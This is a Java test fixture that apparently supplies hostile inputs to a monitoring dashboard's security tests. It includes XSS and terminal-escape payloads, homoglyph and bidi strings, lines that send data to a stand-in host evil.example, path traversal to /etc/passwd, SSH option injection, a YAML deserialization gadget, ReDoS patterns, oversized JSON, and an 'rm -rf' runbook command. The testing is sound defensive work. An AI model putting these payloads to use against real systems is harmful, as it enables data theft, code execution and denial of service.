package greenwall.tests.hostile;

import java.util.List;

/// Attacker inputs that are not in [HostileTexts].
final class HostileInputs {
    private static final String ESC = "\u001b";

    /// For labels, log lines, host names, process names, annotations.
    static final List<String> TEXTS = List.of(
            // Terminals: sixel, graphics, other title sequences, clipboards, reports, redefined keys.
            ESC + "Pq#0;2;0;0;0~~@@vv" + ESC + "\\",
            ESC + "]2;sudo password:" + ESC + "\\",
            ESC + "]l title" + ESC + "\\",
            ESC + "k screen title" + ESC + "\\",
            ESC + "]52;p;!" + ESC + "\\",
            ESC + "]4;1;?\u0007",
            ESC + "]10;?\u0007" + ESC + "]11;?\u0007",
            ESC + "[21t",
            ESC + "[>c" + ESC + "[=c" + ESC + "[5n",
            ESC + "]9;4;1;50\u0007",
            ESC + "]777;notify;you;won\u0007",
            ESC + "[4i" + ESC + "[5i",
            ESC + "P1;1|17/6c73" + ESC + "\\",
            ESC + "#8" + ESC + "(0lqqk",
            ESC + "[1;1r" + ESC + "[999;999H",
            ESC + "[8m hidden " + ESC + "[28m",
            ESC + ESC + "[A",
            ESC,
            "\u009b1A\u009b2K",
            "\u0098start of string\u009c",
            "\u009eprivacy\u009c",
            "\u0018\u001a",
            // Visually confusable characters.
            "n\u043ede04.\u0440rod",
            "\ud835\udc27\ud835\udc28\ud835\udc1d\ud835\udc1e04",
            "node04\u2024prod\uff0eexample",
            "admin\u3000\u00a0\u2007\u202froot",
            "ok\u202d\u202ekcitirc",
            "\u2068\u202e\u2069\u202c\u202c\u202c",
            "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c\u030d\u030e\u030f"
                    .repeat(30),
            "\ufdfd\ufdfd\ufdfd\ud808\udc2b\ud808\udc2b",
            "\u0e47\u0e47\u0e47\u0e47\u0e47".repeat(40),
            "\ud83c\udff4\udb40\udc67\udb40\udc62\udb40\udc7f",
            "\ufffe\uffff\ufdd0",
            "\u200d\ud83d\udc68\u200d\ud83d\udc69\u200d".repeat(60),
            // Markup, documents, tables, and the programs that read them.
            "<meta http-equiv=refresh content=0;url=http://evil.example/>",
            "<link rel=stylesheet href=//evil.example/a.css>",
            "<base href=http://evil.example/><form action=x><input name=token>",
            "<object data=data:text/html;base64,PHNjcmlwdD4=>",
            "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
            "<svg><use href=http://evil.example/x.svg#a /></svg>",
            "\"onmouseover=\"alert(1)\" style=\"background:url(//evil.example)",
            "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
            "![beacon](http://evil.example/b.png?host=node04 \"t\")",
            "[![a](http://evil.example/a.png)](javascript:alert`1`)",
            "[click][1]\n\n[1]: data:text/html,x",
            "http://evil.example/$(hostname)",
            "~~~\n<script>\n~~~",
            "<details open ontoggle=alert(1)>",
            "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A1),\"//a\")",
            "\r=1+1 ",
            "%0A%0D=cmd",
            "%n%n%s%x%p",
            "%-9999999999d %2147483648$s",
            "{0,choice,0#a|1#b} {99999}",
            "${sys:user.home}${env:HOME}${script:javascript:1}",
            "'+(select 1)+'",
            // Names of files and of hosts.
            "....//....//etc/passwd",
            "/proc/self/environ",
            "aux.h:stream:$DATA",
            "..%c0%af..%c0%afetc",
            "-D\u0000",
            "a".repeat(5000),
            "host\tname",
            "[::ffff:127.0.0.1%25lo]:22",
            "root@node04 -oPermitLocalCommand=yes",
            "node04,node05 --even-over-budget");

    /// Addresses that must never reach a browser.
    static final List<String> ADDRESSES = List.of(
            "http://user:pw@good.example/",
            "https://good.example%2f@evil.example/",
            "http:/evil.example",
            "http:evil.example",
            "hTTp\n://evil.example/",
            " http://evil.example/",
            "http://evil.example/\u202egpj.exe",
            "view-source:http://evil.example/",
            "jar:http://evil.example/a!/b",
            "ldap://evil.example/",
            "vbscript:msgbox",
            "http://evil.example\t.good.example/",
            "ms-word:ofe|u|http://evil.example/",
            "http://" + "a".repeat(3000) + ".example/",
            "file://localhost/etc/passwd",
            "http://\u0000evil.example/");

    /// Matchers of silences, which other people write.
    static final List<String> EXPRESSIONS = List.of(
            "(a+)+$",
            "(a|aa)+$",
            "(.*a){25}",
            "(([a-z])+.)+[A-Z]([a-z])+$",
            "(?:a?){30}a{30}",
            "(x+x+)+y",
            "^(([a-z])*)*$",
            "(a|b|ab)*c");

    static final List<String> CONFIGURATIONS = List.of(
            "a: &a [x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b]\nd: [*c,*c,*c,*c,*c,*c]\n",
            "&a clusters: *a\n",
            "a: &a {b: *a}\n",
            "<<: &x {read_only: true, <<: *x}\n",
            "clusters: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://127.0.0.1:1\"]]]]\n",
            "read_only: !!java.lang.Boolean {}\n",
            "clusters: " + "[".repeat(20_000) + "\n",
            "clusters: " + "{a: ".repeat(5_000) + "\n",
            "? ".repeat(20_000) + "\n",
            "wall: {refresh: 1e999999999s}\n",
            "wall: {refresh: -1s}\n",
            "wall: {refresh: NaN}\n",
            "wall: {refresh: 99999999999999999999h}\n",
            "wall: {thresholds: {arc.hit_ratio: {warn: .nan, critical: -.inf}}}\n",
            "clusters: [{name: a, prometheus: {url: \"file:///etc/passwd\"}}]\n",
            "clusters: [{name: a, prometheus: {url: \"http://a b/\"}}]\n",
            "clusters: [{name: \"../../x\", prometheus: {url: \"http://127.0.0.1:1\"}}]\n",
            "clusters: [{name: \"" + ESC + "]0;x\u0007\", prometheus: {url: \"http://127.0.0.1:1\"}}]\n",
            "%YAML 9.9\n---\na: b\n--- \nc: d\n",
            "\u0000\u0001\u0002",
            "\ufeff\ufeffclusters: []\n",
            "theme: \"\\uD800\"\n",
            "slo: {host: 999999999999999999999999999999999999999999999999999999999}\n",
            "quantities: {\"../x\": {unit: W, forms: [\"" + "(".repeat(9000) + "\"]}}\n",
            "redact: [\"(a+)+$\"]\n");

    static final List<String> RUNBOOKS = List.of(
            "# A\n\n![x](http://evil.example/beacon.png)\n",
            "# A\n\n<img src=\"http://evil.example/beacon.png\">\n<script>alert(1)</script>\n",
            "# A\n\n[x](file:///etc/passwd) [y](javascript:alert(1)) [z](\\\\evil.example\\share)\n",
            "# A\n\n```sh\nrm -rf $(cat /etc/passwd)\n```\n",
            "# A\n" + "> ".repeat(5000) + "x\n",
            "# A\n" + "* ".repeat(5000) + "x\n",
            "# A\n" + "[a](".repeat(8000),
            "# A\n" + "|a".repeat(8000) + "\n" + "|-".repeat(8000) + "\n",
            "# " + ESC + "]0;x\u0007\u202e\n",
            "---\n- &a [*a]\n---\n# A\n",
            "# A\n\n```promql\nup{a=~\"(a+)+$\"}\n```\n",
            "# A\n\n" + "`".repeat(15_000) + "\n");

    /// Response bodies; each is returned for every request.
    static final List<String> ANSWERS = List.of(
            vector("{\"metric\":{\"instance\":\"a\"},\"value\":[1,\"NaN\"]}"),
            vector("{\"metric\":{\"instance\":\"a\"},\"value\":[1,\"-Inf\"]}"),
            vector("{\"metric\":{\"instance\":\"a\"},\"value\":[1,\"1e400\"]}"),
            vector("{\"metric\":{\"instance\":\"a\"},\"value\":[1,\"0x1p9\"]}"),
            vector("{\"metric\":{\"instance\":\"a\"},\"value\":[1,\"" + "9".repeat(100_000) + "\"]}"),
            vector("{\"metric\":{\"instance\":\"a\"},\"value\":[9e99,\"1\"]}"),
            vector("{\"metric\":{\"instance\":\"a\"},\"value\":[-9007199254740993,\"1\"]}"),
            vector("{\"metric\":{\"instance\":\"a\"},\"value\":[\"1\",1]}"),
            vector("{\"metric\":{\"instance\":\"a\"},\"value\":[1,\"1\",{\"a\":[]}]}"),
            vector("{\"metric\":{\"instance\":7},\"value\":[1,\"1\"]}"),
            vector("{\"metric\":{\"\":\"\",\"__name__\":\"\"},\"value\":[1,\"1\"]}"),
            vector("{\"metric\":{" + labels(4000) + "},\"value\":[1,\"1\"]}"),
            vector("{\"metric\":{\"instance\":\"" + "x".repeat(2_000_000) + "\"},\"value\":[1,\"1\"]}"),
            vector("{\"metric\":{\"a\":\"\\ud800\\udc00\\udc00\\u0000\"},\"value\":[1,\"1\"]}"),
            "{\"status\":\"success\",\"status\":\"error\",\"data\":null,\"data\":{\"resultType\":\"vector\",\"result\":[]}}",
            "{\"status\":\"success\",\"data\":" + "[".repeat(100_000),
            "{\"status\":\"success\",\"data\":" + "{\"a\":".repeat(100_000),
            "{\"status\":\"success\",\"data\":{\"resultType\":\"scalar\",\"result\":[1e99999,\"1\"]}}",
            "{\"status\":\"success\",\"data\":{\"resultType\":\"streams\",\"result\":[{\"stream\":{\"a\":\"b\"},\"values\":[[\"99999999999999999999999\",\"x\"]]}]}}",
            "{\"status\":\"success\",\"data\":{\"resultType\":\"streams\",\"result\":[{\"stream\":{\"a\":\"b\"},\"values\":[[\"-1\",\""
                    + ESC + "[2J\"]]}]}}",
            "{\"status\":\"success\",\"warnings\":[" + "\"w\",".repeat(50_000)
                    + "\"w\"],\"data\":{\"resultType\":\"vector\",\"result\":[]}}",
            "{\"status\":\"error\",\"errorType\":\"" + ESC + "[2J\",\"error\":\"" + "e".repeat(500_000) + "\"}",
            "[{\"labels\":{\"alertname\":\"" + "(a+)+".repeat(2000)
                    + "\"},\"startsAt\":\"+999999999-12-31T23:59:59Z\"}]",
            "[{\"status\":{\"state\":\"" + ESC
                    + "c\"},\"endsAt\":\"0000-00-00T00:00:00Z\",\"matchers\":[{\"isRegex\":true,\"value\":\"(a+)+$\"}]}]");

    private HostileInputs() {}

    private static String vector(String series) {
        return "{\"status\":\"success\",\"data\":{\"resultType\":\"vector\",\"result\":[" + series + "]}}";
    }

    private static String labels(int count) {
        var labels = new StringBuilder();
        for (int i = 0; i < count; i++) {
            labels.append(i == 0 ? "" : ",").append("\"l").append(i).append("\":\"v\"");
        }
        return labels.toString();
    }

    static int size() {
        return TEXTS.size()
                + ADDRESSES.size()
                + EXPRESSIONS.size()
                + CONFIGURATIONS.size()
                + RUNBOOKS.size()
                + ANSWERS.size();
    }
}
